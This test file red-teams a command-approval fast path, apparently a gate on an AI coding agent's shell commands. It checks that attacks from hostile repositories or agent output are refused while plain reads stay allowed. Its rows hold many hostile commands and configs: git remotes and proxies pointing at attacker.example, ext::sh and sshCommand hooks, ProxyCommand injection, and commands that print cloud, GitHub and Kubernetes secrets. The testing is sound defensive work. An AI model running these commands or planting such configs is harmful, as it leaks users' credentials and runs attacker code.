// Red-team cases against the containers / cloud CLIs / gh / git / Homebrew / fzf fast path, run through
// the compiled binary with no classifier credentials (an "allow" can only be the fast path's). Each
// REFUSE row is an attack by a hostile repository (its .git, its files) or a hostile agent's words that
// an earlier version allowed or that probes a spelling next to one; each ALLOW row keeps the plain
// read provable so a refusal cannot pass by refusing everything.
import { afterAll, describe, expect, test } from "bun:test";
import { appendFileSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { binaryVerdicts, isolatedHome, put } from "../support/fastpath-binary.ts";

const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-redcloud-")));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const { env } = isolatedHome();

function git(dir: string, ...args: string[]): void {
  const r = Bun.spawnSync(["git", ...args], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: work, GIT_CONFIG_NOSYSTEM: "1" },
  });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
}

/** A repository with one https remote (origin) and no live hooks; `extra` is appended to .git/config. */
function repo(name: string, extra = ""): string {
  const dir = join(work, name);
  put(join(dir, "README.md"), "# r\n");
  git(dir, "init", "-q", "-b", "main");
  rmSync(join(dir, ".git", "hooks"), { recursive: true, force: true });
  for (const legacy of ["branches", "remotes"]) rmSync(join(dir, ".git", legacy), { recursive: true, force: true });
  git(dir, "remote", "add", "origin", "https://example.invalid/o/r.git");
  if (extra) appendFileSync(join(dir, ".git", "config"), extra);
  return dir;
}

async function verdicts(dir: string, commands: readonly string[]): Promise<Map<string, string>> {
  return binaryVerdicts(commands, dir, env);
}

function expectAll(got: Map<string, string>, commands: readonly string[], want: "allow" | "fallthrough"): void {
  const wrong = commands.filter((c) => (got.get(c) === "allow") !== (want === "allow"));
  expect(wrong).toEqual([]);
}

const FETCHES = ["git fetch", "git fetch origin", "git ls-remote", "git ls-remote origin"];

describe('git remotes a hostile .git names without [remote "NAME"]', () => {
  test("a clean repository keeps fetch and ls-remote provable", async () => {
    const dir = repo("clean");
    const cmds = [...FETCHES, "git fetch --no-recurse-submodules origin", "git request-pull HEAD~1 origin"];
    expectAll(await verdicts(dir, cmds), cmds, "allow");
  }, 60_000);

  test("the legacy [remote.NAME] spelling hides an ssh host or a local path", async () => {
    const ssh = repo("legacy-ssh", "[remote.evil]\n\turl = attacker.example:r.git\n");
    const path = repo("legacy-path", "[remote.evil]\n\turl = /tmp/other-repo\n");
    const cmds = ["git fetch evil", "git ls-remote evil", "git fetch --all", "git request-pull HEAD evil"];
    expectAll(await verdicts(ssh, cmds), cmds, "fallthrough");
    expectAll(await verdicts(path, cmds), cmds, "fallthrough");
  }, 60_000);

  test("branch.*.remote may itself be a URL or a path", async () => {
    const dir = repo("branch-url", '[branch "main"]\n\tremote = attacker.example:r.git\n\tmerge = refs/heads/main\n');
    const cmds = ["git fetch", "git ls-remote", "git fetch -q", "git fetch --prune"];
    expectAll(await verdicts(dir, cmds), cmds, "fallthrough");
  }, 60_000);

  test(".git/remotes/NAME and .git/branches/NAME are remotes git reads too", async () => {
    const remotes = repo("legacy-remotes");
    put(join(remotes, ".git", "remotes", "evil"), "URL: attacker.example:r.git\n");
    const branches = repo("legacy-branches");
    put(join(branches, ".git", "branches", "evil"), "attacker.example:r.git\n");
    const cmds = ["git fetch evil", "git ls-remote evil", "git fetch", "git ls-remote"];
    expectAll(await verdicts(remotes, cmds), cmds, "fallthrough");
    expectAll(await verdicts(branches, cmds), cmds, "fallthrough");
  }, 60_000);

  test("a word that is no configured remote is a path: a bare repository the worktree holds", async () => {
    const dir = repo("embedded-bare");
    put(join(dir, "evil", "HEAD"), "ref: refs/heads/main\n");
    put(join(dir, "evil", "config"), "[core]\n\tbare = true\n");
    mkdirSync(join(dir, "evil", "objects"), { recursive: true });
    mkdirSync(join(dir, "evil", "refs"), { recursive: true });
    mkdirSync(join(dir, "evil.git"), { recursive: true });
    put(join(dir, "plain.git", "HEAD"), "x\n");
    // With no such path, git fails ("does not appear to be a git repository"): nothing to refuse.
    const none = ["git fetch nosuchremote", "git ls-remote nosuchremote"];
    expectAll(await verdicts(dir, none), none, "allow");
    const cmds = [
      "git fetch evil",
      "git ls-remote evil",
      "git fetch evil.git",
      "git ls-remote plain",
      "git ls-remote -h evil",
      "git request-pull HEAD evil",
      "git fetch -q evil main",
    ];
    expectAll(await verdicts(dir, cmds), cmds, "fallthrough");
  }, 60_000);

  test('a [remote "NAME"] without a url is its name used as a path', async () => {
    const dir = repo("remote-no-url", '[remote "evil"]\n\tfetch = +refs/heads/*:refs/remotes/evil/*\n');
    put(join(dir, "evil", "HEAD"), "ref: refs/heads/main\n");
    mkdirSync(join(dir, "evil", "objects"), { recursive: true });
    mkdirSync(join(dir, "evil", "refs"), { recursive: true });
    const cmds = ["git fetch evil", "git ls-remote evil", "git request-pull HEAD evil"];
    expectAll(await verdicts(dir, cmds), cmds, "fallthrough");
  }, 60_000);

  test("configured refspecs or a mirror remote that write outside refs/remotes/", async () => {
    const heads = repo("refspec-heads");
    git(heads, "config", "--replace-all", "remote.origin.fetch", "+refs/heads/*:refs/heads/*");
    const tags = repo("refspec-tags");
    git(tags, "config", "--add", "remote.origin.fetch", "+refs/tags/*:refs/tags/*");
    const mirror = repo("mirror", "");
    git(mirror, "config", "remote.origin.mirror", "true");
    const cmds = ["git fetch", "git fetch origin", "git fetch --prune origin"];
    for (const dir of [heads, tags, mirror]) expectAll(await verdicts(dir, cmds), cmds, "fallthrough");
  }, 60_000);

  test("a nested .git anywhere in the worktree (fetch recurses into populated gitlinks)", async () => {
    const dir = repo("nested-git");
    put(join(dir, "vendor", "lib", ".git", "HEAD"), "ref: refs/heads/main\n");
    put(join(dir, "vendor", "lib", ".git", "hooks", "reference-transaction"), "#!/bin/sh\n");
    const refused = ["git fetch", "git fetch origin", "git fetch --prune", "git fetch -q origin main"];
    const got = await verdicts(dir, [...refused, "git fetch --no-recurse-submodules origin", "git ls-remote origin"]);
    expectAll(got, refused, "fallthrough");
    expect(got.get("git fetch --no-recurse-submodules origin")).toBe("allow");
    expect(got.get("git ls-remote origin")).toBe("allow");
  }, 60_000);

  test("keys that run programs or rewrite URLs stay refused (regression)", async () => {
    const extras = [
      '[url "attacker.example:"]\n\tinsteadOf = https://example.invalid/\n',
      '[url "ext::sh"]\n\tinsteadOf = https://\n',
      "[core]\n\tsshCommand = evil\n",
      '[remote "origin"]\n\tuploadpack = evil\n',
      "[protocol]\n\tallow = always\n",
      '[protocol "ext"]\n\tallow = always\n',
      "[include]\n\tpath = /tmp/x\n",
      '[includeIf "gitdir:/"]\n\tpath = /tmp/x\n',
      "[credential]\n\thelper = evil\n",
      "[core]\n\thooksPath = /tmp\n",
      "[fetch]\n\trecurseSubmodules = yes\n",
      "[submodule]\n\trecurse = true\n",
      "[http]\n\tproxy = http://attacker.example\n",
      '[remote "origin"]\n\tproxy = http://attacker.example\n',
      '[remote "origin"]\n\turl = "ssh://attacker.example/r"\n',
      '[remote "origin"]\n\turl = ssh://github.com.attacker.example/r\n',
      '[remote "origin"]\n\turl = git@github.com.attacker.example:r\n',
      '[remote "origin"]\n\turl = file:///tmp/x\n',
      '[remote "origin"]\n\turl = ../other\n',
    ];
    for (const [i, extra] of extras.entries()) {
      const dir = repo(`keys-${i}`, extra);
      const got = await verdicts(dir, FETCHES);
      expect([extra, FETCHES.filter((c) => got.get(c) === "allow")]).toEqual([extra, []]);
    }
  }, 120_000);

  test("option spellings git takes that the tables must not", async () => {
    const dir = repo("options");
    const cmds = [
      "git ls-remote --upload-pack=evil origin",
      "git ls-remote --upload-p=evil origin",
      "git ls-remote --u=evil origin",
      "git ls-remote --get-url origin",
      "git ls-remote --get-u origin",
      "git fetch --upload-pack=evil origin",
      "git fetch --recurse-submodules origin",
      "git fetch --recurse-submodules=yes",
      "git fetch --refmap=refs/heads/*:refs/heads/* origin",
      "git fetch origin +main:main",
      "git fetch origin main:main",
      "git fetch --prune-tags",
      "git fetch -u origin main:main",
      "git fetch --update-head-ok origin",
      "git fetch -c core.sshCommand=evil origin",
      "git -c core.sshCommand=evil fetch origin",
      "git --git-dir=/tmp/x fetch origin",
      "git fetch --set-upstream origin main",
      "git fetch --write-fetch-head origin",
      "git fetch --negotiate-only origin",
      "git fetch --server-option=x origin",
      "git fetch -o x origin",
      "git ls-remote ext::sh",
      "git ls-remote 'ext::sh -c x'",
      "git ls-remote file:///tmp",
      "git ls-remote /tmp",
      "git ls-remote ../other",
      "git ls-remote attacker.example:r",
      "git ls-remote ssh://attacker.example/r",
      "git ls-remote ssh://-oProxyCommand=x@github.com/r",
      "git ls-remote 'https://github.com/o/r --upload-pack=x'",
      "git request-pull HEAD attacker.example:r",
      "git request-pull HEAD /tmp/x",
    ];
    expectAll(await verdicts(dir, cmds), cmds, "fallthrough");
  }, 60_000);
});

describe("Homebrew words that make brew evaluate Ruby", () => {
  test("a formula file by path or name, a URL, or a tap brew would clone", async () => {
    const dir = repo("brew");
    put(join(dir, "evil.rb"), "class Evil < Formula\nend\n");
    put(join(dir, "Formula", "evil.rb"), "class Evil < Formula\nend\n");
    const refused = [
      "brew info ./evil.rb",
      "brew info evil.rb",
      "brew info Formula/evil.rb",
      "brew info --cask evil.rb",
      "brew --cache evil.rb",
      "brew --cache ./evil.rb",
      "brew --cache --cask ./evil.rb",
      "brew --prefix evil.rb",
      "brew --cellar evil.rb",
      "brew --repo attacker/evil/x",
      "brew tap-info attacker/evil/x",
      "brew log evil.rb",
      "brew log attacker/evil/x",
      "brew cat evil.rb",
      "brew deps ./evil.rb",
      "brew uses evil.rb",
      "brew options evil.rb",
      "brew desc evil.rb",
      "brew missing evil.rb",
      "brew outdated evil.rb",
      "brew info EVIL.RB",
      "brew info https://example.invalid/x.rb",
      "brew info https://example.invalid/x",
      "brew info attacker/evil/x",
      "brew deps attacker/evil/x",
      "brew --cache attacker/evil/x",
      "brew info ../x",
      "brew info /tmp/x",
    ];
    const allowed = [
      "brew info wget",
      "brew --cache wget",
      "brew --prefix",
      "brew log wget",
      "brew deps --tree git",
      "brew --repo homebrew/core",
      "brew search wget",
    ];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("docker daemon addresses", () => {
  test("ssh:// reaches a host the command names with the user's ssh (agent forwarding)", async () => {
    const dir = repo("docker");
    const refused = [
      "docker -H ssh://attacker.example ps",
      "docker -H ssh://user@attacker.example ps",
      "docker --host ssh://attacker.example ps",
      "docker --host=ssh://attacker.example ps",
      "docker -Hssh://attacker.example ps",
      "docker -H=ssh://attacker.example ps",
      "docker -H ssh://-oProxyCommand=x ps",
      "docker --host=ssh://-oProxyCommand=x ps",
      "docker -H 'ssh://x -oProxyCommand=y' ps",
      "podman -H ssh://attacker.example ps",
      "docker -H ssh://attacker.example compose ps",
      "docker --config /tmp ps",
      "docker --tlscacert /tmp/x -H tcp://h:1 ps",
    ];
    const allowed = ["docker -H tcp://127.0.0.1:2375 ps", "docker -H unix:///var/run/docker.sock ps"];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("a bare git dir inside the worktree is the repository git uses", () => {
  test("git -C into it reads its config (core.fsmonitor, core.pager …)", async () => {
    const dir = repo("bare-inside");
    put(join(dir, "evil", "HEAD"), "ref: refs/heads/main\n");
    put(join(dir, "evil", "config"), "[core]\n\tbare = true\n\tfsmonitor = evil\n\tpager = evil\n");
    mkdirSync(join(dir, "evil", "objects"), { recursive: true });
    mkdirSync(join(dir, "evil", "refs"), { recursive: true });
    put(join(dir, "evil", "sub", "x.txt"), "x\n");
    const refused = [
      "git -C evil log",
      "git -C evil status",
      "git -C evil/sub log",
      "git -C evil ls-remote",
      "git -C evil fetch --no-recurse-submodules",
      "git -C ./evil/ diff",
    ];
    const allowed = ["git status", "git log", "git -C . log"];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("kubectl objects named by a manifest or a raw API path", () => {
  test("a -f manifest can name Secrets; --raw reaches any API path", async () => {
    const dir = repo("kubectl");
    put(join(dir, "manifest.yaml"), "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n");
    const refused = [
      "kubectl get -f manifest.yaml -o yaml",
      "kubectl get -f manifest.yaml -o json",
      "kubectl get -f manifest.yaml -ojsonpath={.data}",
      "kubectl get --filename=manifest.yaml -o yaml",
      "kubectl get --filename manifest.yaml --output=yaml",
      "kubectl get -f=manifest.yaml -o yaml",
      "kubectl get -Rf . -o yaml",
      "kubectl get -f . -o yaml",
      "kubectl get -f manifest.yaml --template={{.data}}",
      "kubectl get -f manifest.yaml -o name -o yaml",
      "kubectl wait -f manifest.yaml --for=jsonpath={.data.x}=y",
      "kubectl get --raw api/v1/namespaces/default/secrets?limit=1",
      "kubectl get --raw api/v1/namespaces/default/%73ecrets",
      "kubectl get --raw=api/v1/x",
      "kubectl get --raw api/v1/namespaces/x/services/y:80/proxy/z",
      "kubectl get --raw /api/v1/secrets",
      "kubectl get secrets,pods -o yaml",
      "kubectl get pods,secret -o json",
      "kubectl get Secret.v1. -o yaml",
      "kubectl get SECRETS -o yaml",
      "kubectl get -oyaml secret",
      "kubectl get secret -o wide --output yaml",
      "kubectl get secret -o name -o yaml",
      "kubectl get secret -o custom-columns=X:.data",
      "kubectl get secret -o go-template-file=x",
      "kubectl get secret --sort-by=.data.x",
      "kubectl get rs,secrets.v1. -o yaml",
      "kubectl get -Ao yaml secrets",
    ];
    const allowed = [
      "kubectl get -f manifest.yaml",
      "kubectl get -f manifest.yaml -o name",
      "kubectl describe -f manifest.yaml",
      "kubectl get secrets -A -o name",
      "kubectl get pods -o yaml",
    ];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("gh pages in the browser", () => {
  test("a URL argument names the host that answers with the page to open", async () => {
    const dir = repo("gh");
    const refused = [
      "gh pr view https://evil.example/o/r/pull/1 -w",
      "gh pr view https://evil.example/o/r/pull/1 --web",
      "gh issue view https://evil.example/o/r/issues/1 -w",
      "gh browse https://evil.example/x",
      "gh repo view evil.example/o/r -w",
      "gh repo view evil.example/o/r --web",
      "gh pr view 1 -w -R evil.example/o/r",
      "gh pr view 1 -w --repo=evil.example/o/r",
      "gh pr view 1 -w -Revil.example/o/r",
      "GH_HOST=evil.example gh browse",
      "GH_REPO=evil.example/o/r gh pr view -w",
      "gh api graphql -f query=@q.graphql",
      "gh api graphql -f 'query={ viewer { login } }' -F x=@file",
      "gh api graphql -f 'query=query{x}' -f 'query=mutation{y}'",
      "gh api graphql -f 'query=query{x}' -f 'v=MUTATION'",
      "gh api repos/o/r -X GET -f a=b -X POST",
      "gh api repos/o/r --method GET --method=DELETE",
      "gh api repos/o/r -X GET -F a=@-",
      "gh api repos/o/r -Fa=b",
      "gh api repos/o/r -iXPOST",
      "gh api repos/o/r --jq -X -f a=b",
      "gh api https://evil.example/x",
    ];
    const allowed = [
      "gh pr view 1 -w",
      "gh browse",
      "gh repo view o/r -w",
      "gh browse src/main.ts",
      "gh pr view https://github.com/o/r/pull/1",
      "gh api user",
    ];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("attacks that held (regression)", () => {
  test("fzf actions, helm options, git and brew spellings", async () => {
    const dir = repo("held");
    put(join(dir, "patch.diff"), "");
    put(join(dir, "mychart", "Chart.yaml"), "apiVersion: v2\nname: mychart\nversion: 0.1.0\n");
    put(join(dir, "mychart", "templates", "cm.yaml"), "kind: ConfigMap\n");
    put(join(dir, "mychart", "charts", "sub", "Chart.yaml"), "apiVersion: v2\nname: sub\nversion: 0.1.0\n");
    put(join(dir, "mychart", "charts", "sub", "values.schema.json"), '{"$ref": "file:///etc/hostname"}');
    const refused = [
      "fzf --bind 'ctrl-a:execute(x)'",
      "fzf --bind=ctrl-a:execute(x)",
      "fzf --bind 'ctrl-a:accept+execute(x)'",
      "fzf --bind 'change:reload(x)'",
      "fzf --bind 'ctrl-a:put(a)+execute(x)'",
      "fzf --bind 'ctrl-a:put(a,b:execute(x))'",
      "fzf --bind 'ctrl-a:execute:x'",
      "fzf --bind 'ctrl-a:become:x'",
      "fzf --bind 'start:preview(x)'",
      "fzf --bind 'ctrl-a:transform:x'",
      "fzf --bind 'ctrl-a:accept,ctrl-b:execute(x)'",
      "fzf --bind 'ctrl-a:accept' --bind 'ctrl-b:execute(x)'",
      "fzf --bind 'ctrl-a:put:execute(x)'",
      "fzf --bind 'ctrl-a:print(x)'",
      "fzf --bind 'result:transform-query(x)'",
      "fzf --bind 'ctrl-a:reload-sync(x)'",
      "fzf --preview=x",
      "fzf --with-shell x",
      "fzf --listen 1234",
      "fzf --history=x",
      "fzf --walker-root /",
      "fzf --tmux center --bind 'ctrl-a:execute(x)'",
      "helm template ./mychart",
      "helm lint ./mychart",
      "helm template ./mychart --set-file a=/etc/hostname",
      "helm template x ./mychart -f /etc/hostname",
      "helm template x ./mychart --values=https://evil.example/v.yaml",
      "helm template ./mychart --post-renderer=x",
      "helm template ./mychart --output-dir=/tmp/x",
      "helm template ./mychart --dependency-update",
      "helm template ./mychart --validate",
      "helm template ./mychart --repo https://evil.example",
      "helm evilplugin --help",
      "git apply --check --unsafe-paths patch.diff",
      "git apply --check --apply patch.diff",
      "git apply --check --index patch.diff",
      "git apply --stat patch.diff",
      "git format-patch --stdout -o /tmp/x HEAD~1",
      "git format-patch --stdout --output=/tmp/x HEAD~1",
      "git format-patch --stdout --signature-file=/etc/hostname HEAD~1",
      "git format-patch --stdout --ext-diff HEAD~1",
      "git hash-object -w README.md",
      "git hash-object --stdin-paths",
      "git symbolic-ref -d HEAD",
      "git symbolic-ref HEAD refs/heads/x",
      "git var -l",
      "git replace -l -d x",
      "git rerere diff",
      "git bundle unbundle repo.bundle",
      "git lfs env",
      "git lfs pull",
      "brew analytics on",
      "brew evilcmd --help",
      "docker compose -f /etc/hostname ps",
      "docker compose --env-file .env ps",
      "docker compose config",
      "podman-compose --podman-path x ps",
      "podman secret inspect --showsecret x",
      "docker buildx imagetools create x",
      "aws configure get aws_secret_access_key",
      "aws configure get profile.x.aws_session_token",
      "aws --endpoint-url http://127.0.0.1.evil.example s3 ls",
      "aws --endpoint-url=http://localhost@evil.example s3 ls",
      "az config get storage.key",
      "auth0 --debug apps list",
      "auth0 apps show x --reveal-secrets",
    ];
    // `helm template|lint ./mychart` is refused here because the subchart's values.schema.json names a file.
    const got = await verdicts(dir, refused);
    expectAll(got, refused, "fallthrough");
  }, 60_000);
});

describe("compose files the project loads", () => {
  const PLAIN = "services:\n  web:\n    image: nginx\n";
  // biome-ignore lint/suspicious/noTemplateCurlyInString: compose's own interpolation syntax
  const VAR = "${TOKEN}";
  function composeRepo(name: string, compose: string | null, env: string | null = null): string {
    const dir = repo(name);
    if (compose !== null) put(join(dir, "compose.yaml"), compose);
    if (env !== null) put(join(dir, ".env"), env);
    put(join(dir, "vars.list"), "A=1\n");
    return dir;
  }
  const VERBS = ["docker compose ps", "docker compose logs", "docker-compose images", "podman-compose ps"];

  test("a plain compose file (a .env of plain values beside it) stays provable", async () => {
    const dir = composeRepo("compose-plain", PLAIN, "TOKEN=secret\n");
    const cmds = [...VERBS, "docker compose -f compose.yaml ps", "docker compose --env-file vars.list top"];
    expectAll(await verdicts(dir, cmds), cmds, "allow");
  }, 60_000);

  test("interpolation, include, extends, env_file, label_file", async () => {
    const hostile = [
      `name: ${VAR}\nservices:\n  web:\n    image: nginx\n`,
      `services:\n  web:\n    image: nginx\n    ports:\n      - "${VAR}:80"\n`,
      "services:\n  web:\n    image: nginx\n    ports:\n      - $TOKEN\n",
      "include:\n  - path: ../../outside/compose.yaml\n    env_file: /etc/hostname\n",
      "include:\n  - /etc/compose.yaml\n",
      "services:\n  web:\n    extends:\n      file: /etc/compose.yaml\n      service: x\n",
      "services:\n  web: {extends: {file: /etc/c.yaml, service: x}}\n",
      "services:\n  web:\n    image: nginx\n    env_file: /etc/hostname\n",
      "services:\n  web:\n    image: nginx\n    label_file: /etc/hostname\n",
      '"include":\n  - /etc/compose.yaml\n',
    ];
    for (const [i, compose] of hostile.entries()) {
      const dir = composeRepo(`compose-hostile-${i}`, compose, "TOKEN=secret\n");
      const got = await verdicts(dir, VERBS);
      expect([compose, VERBS.filter((c) => got.get(c) === "allow")]).toEqual([compose, []]);
    }
  }, 120_000);

  test(".env or --env-file setting compose's own variables, files out of reach", async () => {
    const composeFile = composeRepo("compose-env-file", PLAIN, "COMPOSE_FILE=/etc/compose.yaml\n");
    const dockerHost = composeRepo("compose-env-host", PLAIN, "export DOCKER_HOST=ssh://attacker.example\n");
    expectAll(await verdicts(composeFile, VERBS), VERBS, "fallthrough");
    expectAll(await verdicts(dockerHost, VERBS), VERBS, "fallthrough");
    const envFile = composeRepo("compose-envfile-opt", PLAIN);
    put(join(envFile, "vars.list"), "COMPOSE_PROJECT_NAME=x\n");
    const cmds = ["docker compose --env-file vars.list ps", "docker compose --env-file=vars.list ps"];
    expectAll(await verdicts(envFile, cmds), cmds, "fallthrough");
    // No compose file in the repository: compose reads the user's own above it, unless a .env here
    // points it back into the repository.
    const none = composeRepo("compose-none", null);
    expectAll(await verdicts(none, [...VERBS, "docker compose version", "docker compose ls"]), VERBS, "allow");
    const noneEnv = composeRepo("compose-none-env", null, "COMPOSE_FILE=sub/c.yaml\n");
    put(join(noneEnv, "sub", "c.yaml"), `name: ${VAR}\n`);
    expectAll(await verdicts(noneEnv, VERBS), VERBS, "fallthrough");
    const versions = ["docker compose version", "docker compose ls", "docker compose -p x version"];
    expectAll(await verdicts(noneEnv, versions), versions, "allow");
    // A default compose file that is a symlink, and a project directory whose file interpolates.
    const linked = composeRepo("compose-linked", null);
    put(join(work, "outside-compose.yaml"), PLAIN);
    symlinkSync(join(work, "outside-compose.yaml"), join(linked, "compose.yaml"));
    expectAll(await verdicts(linked, VERBS), VERBS, "fallthrough");
    const projectDir = composeRepo("compose-project-dir", PLAIN);
    put(join(projectDir, "sub", "compose.yaml"), `name: ${VAR}\n`);
    const sub = ["docker compose --project-directory sub ps", "docker compose -f sub/compose.yaml ps"];
    expectAll(await verdicts(projectDir, sub), sub, "fallthrough");
    // An override file beside a plain one is loaded too.
    const override = composeRepo("compose-override", PLAIN);
    put(join(override, "compose.override.yaml"), `name: ${VAR}\n`);
    expectAll(await verdicts(override, VERBS), VERBS, "fallthrough");
  }, 120_000);
});

describe("verbose logs and stored tokens", () => {
  test("kubectl -v above 5 logs response bodies; gh config get of a token", async () => {
    const dir = repo("verbose");
    const refused = [
      "kubectl get secrets -v=9",
      "kubectl get secrets -v 9",
      "kubectl get secret x -v8",
      "kubectl describe secret x -v=9",
      "kubectl get pods -v 7",
      "kubectl -v=9 get secrets",
      "kubectl get secret --v=9",
      "gh config get oauth_token",
      "gh config get -h github.com oauth_token",
      "gh config get --host=github.com oauth_token",
      "gcloud projects list --log-http",
      "aws s3 ls --debug",
      "kubectl config view --raw",
      "gh auth status -t",
      "gh auth status --show-token",
    ];
    const allowed = ["kubectl get pods -v 2", "gh config get git_protocol", "gh auth status", "gh secret list"];
    const got = await verdicts(dir, [...refused, ...allowed]);
    expectAll(got, refused, "fallthrough");
    expectAll(got, allowed, "allow");
  }, 60_000);
});

describe("kubectl config view of a kubeconfig with unredacted values", () => {
  test("passwords, auth-provider tokens and exec env are printed without --raw", async () => {
    const dir = repo("kubeconfig");
    const base =
      "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://k.example\ncontexts:\n- name: x\n  context:\n    cluster: c\n    user: u\ncurrent-context: x\nusers:\n- name: u\n  user:\n";
    const hostile = [
      "    username: admin\n    password: hunter2\n",
      "    auth-provider:\n      name: oidc\n      config:\n        id-token: x\n        refresh-token: y\n",
      "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: x\n      env:\n      - name: TOKEN\n        value: s\n",
    ];
    const cmds = ["kubectl config view", "kubectl config view --minify", "kubectl config view -o jsonpath={.users}"];
    for (const [i, user] of hostile.entries()) {
      const home = isolatedHome();
      put(join(home.home, ".kube", "config"), base + user);
      const got = await binaryVerdicts(cmds, dir, home.env);
      expect([user, cmds.filter((c) => got.get(c) === "allow")]).toEqual([user, []]);
      // The same file named by $KUBECONFIG.
      const other = join(work, `kubeconfig-${i}`);
      put(other, base + user);
      const viaEnv = await binaryVerdicts(cmds, dir, { ...env, KUBECONFIG: other });
      expect([user, cmds.filter((c) => viaEnv.get(c) === "allow")]).toEqual([user, []]);
    }
    const plain = isolatedHome();
    put(
      join(plain.home, ".kube", "config"),
      `${base}    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: aws\n      env: null\n    token: t\n`,
    );
    const got = await binaryVerdicts(["kubectl config view", "kubectl config view --minify"], dir, plain.env);
    expect([got.get("kubectl config view"), got.get("kubectl config view --minify")]).toEqual(["allow", "allow"]);
  }, 60_000);
});

describe("helm chart words that are local directories", () => {
  test("a bare name or REPO/CHART spelling of a local chart with a symlink out is walked too", async () => {
    const dir = repo("helm-local");
    for (const chart of ["mychart", join("bitnami", "nginx")]) {
      put(join(dir, chart, "Chart.yaml"), "apiVersion: v2\nname: c\nversion: 0.1.0\n");
      put(join(dir, chart, "templates", "cm.yaml"), "kind: ConfigMap\n");
      symlinkSync(join(work, "outside.txt"), join(dir, chart, "templates", "leak.yaml"));
    }
    put(join(work, "outside.txt"), "outside\n");
    const refused = [
      "helm template mychart",
      "helm template x mychart",
      "helm template mychart/",
      "helm lint mychart",
      "helm template bitnami/nginx",
      "helm template x bitnami/nginx",
      "helm lint bitnami/nginx",
      "helm template x ./bitnami/nginx",
    ];
    expectAll(await verdicts(dir, refused), refused, "fallthrough");
  }, 60_000);
});
